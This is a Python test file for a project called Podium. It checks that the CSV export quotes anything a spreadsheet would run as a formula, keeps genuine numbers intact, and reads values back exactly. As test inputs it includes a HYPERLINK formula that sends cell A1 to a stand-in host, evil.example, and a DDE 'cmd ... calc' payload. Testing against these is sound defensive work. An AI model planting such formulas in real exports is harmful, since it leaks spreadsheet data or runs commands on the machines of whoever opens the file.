"""CSV injection: what a spreadsheet would run is quoted; Podium's own CSV reads back exactly."""

from __future__ import annotations

import csv
import datetime as dt
import tempfile
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

from podium.core.csv_safety import (
    FORMULA_TRIGGERS,
    csv_cell,
    escape_text,
    is_formula_like,
    unescape_text,
)
from podium.core.eventlog import EventLog, read_csv, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_is_quoted_in_a_text_cell(trigger: str) -> None:
    assert csv_cell(f"{trigger}cmd|' /C calc'!A0") == f"'{trigger}cmd|' /C calc'!A0"


@pytest.mark.parametrize("number", [-5, -5.25, Decimal("-2.50"), 0, 7])
def test_numbers_stay_numbers(number: object) -> None:
    assert csv_cell(number) == number


@pytest.mark.parametrize("text", ["-5", "+1.5", "-2e3", ".5", "-0.75"])
def test_text_that_is_exactly_a_number_is_not_quoted(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize("text", ["-1+2", "-5 %", "+31 20 123 4567", "-", "@", "=", "\t5"])
def test_text_that_only_starts_like_a_number_is_quoted(text: str) -> None:
    assert csv_cell(text) == "'" + text


def test_ordinary_text_and_none() -> None:
    assert csv_cell("Acme - EMEA") == "Acme - EMEA"
    assert csv_cell("it's fine") == "it's fine"
    assert csv_cell(None) == ""


@given(st.text())
def test_escape_is_undone_exactly_and_never_leaves_a_formula(text: str) -> None:
    escaped = escape_text(text)
    assert unescape_text(escaped) == text
    assert not is_formula_like(escaped)


# -- the event-log CSV: a file Podium reads back with its `podium` preset ----------------------

_HAZARD = st.sampled_from([*FORMULA_TRIGGERS, "'", "''", "'=", ""])
_BODY = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Zs", "Zl", "Zp")),
    min_size=1,
    max_size=8,
)


@st.composite
def _value(draw: st.DrawFn, *, mapped: bool) -> str:
    """A cell as a reader would produce it: mapped columns hold no outer whitespace."""
    prefix = draw(_HAZARD)
    if mapped:
        prefix = prefix.strip()
    return prefix + draw(_BODY)


@settings(max_examples=60, deadline=None)
@given(
    rows=st.lists(
        st.tuples(
            _value(mapped=True),
            _value(mapped=True),
            st.none() | _value(mapped=True),
            st.none() | _value(mapped=False),
            st.none() | st.sampled_from(["-5", "-1+2", "+7", "@x"]),
        ),
        min_size=1,
        max_size=6,
    )
)
def test_event_log_csv_round_trip_is_exact_and_the_file_holds_no_formula(
    rows: list[tuple[str, str, str | None, str | None, str | None]],
) -> None:
    start = dt.datetime(2024, 3, 1, 8, tzinfo=dt.UTC)
    frame = pl.DataFrame(
        {
            "case_id": [r[0] for r in rows],
            "timestamp": [start + dt.timedelta(minutes=i) for i in range(len(rows))],
            "activity": [r[1] for r in rows],
            "party": [r[2] for r in rows],
            "note": pl.Series([r[3] for r in rows], dtype=pl.String),
            "delta": pl.Series([r[4] for r in rows], dtype=pl.String),
        }
    ).with_columns(pl.col("timestamp").cast(pl.Datetime("us", "UTC")))
    log = EventLog.from_frame(frame, source="hazards")
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "log.csv"
        write_csv(log, path)
        with path.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        back = read_csv(path, preset="podium")
    assert not [cell for cell in cells if is_formula_like(cell)]
    assert_frame_equal(back.frame.drop("seq"), log.frame.drop("seq"))


def test_event_log_csv_quotes_a_formula_and_keeps_a_negative_number(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "case_id": ["INC-1", "INC-1"],
            "timestamp": [dt.datetime(2024, 3, 1, 8, tzinfo=dt.UTC)] * 2,
            "activity": ["New", "Assigned"],
            "party": [HYPERLINK, "'quoted"],
            "delta": ["-5", "-1+2"],
        }
    )
    path = tmp_path / "log.csv"
    write_csv(EventLog.from_frame(frame), path)
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert [r["party"] for r in rows] == ["'" + HYPERLINK, "''quoted"]
    assert [r["delta"] for r in rows] == ["-5", "'-1+2"]
    back = read_csv(path).frame
    assert back["party"].to_list() == [HYPERLINK, "'quoted"]
    assert back["delta"].to_list() == ["-5", "-1+2"]
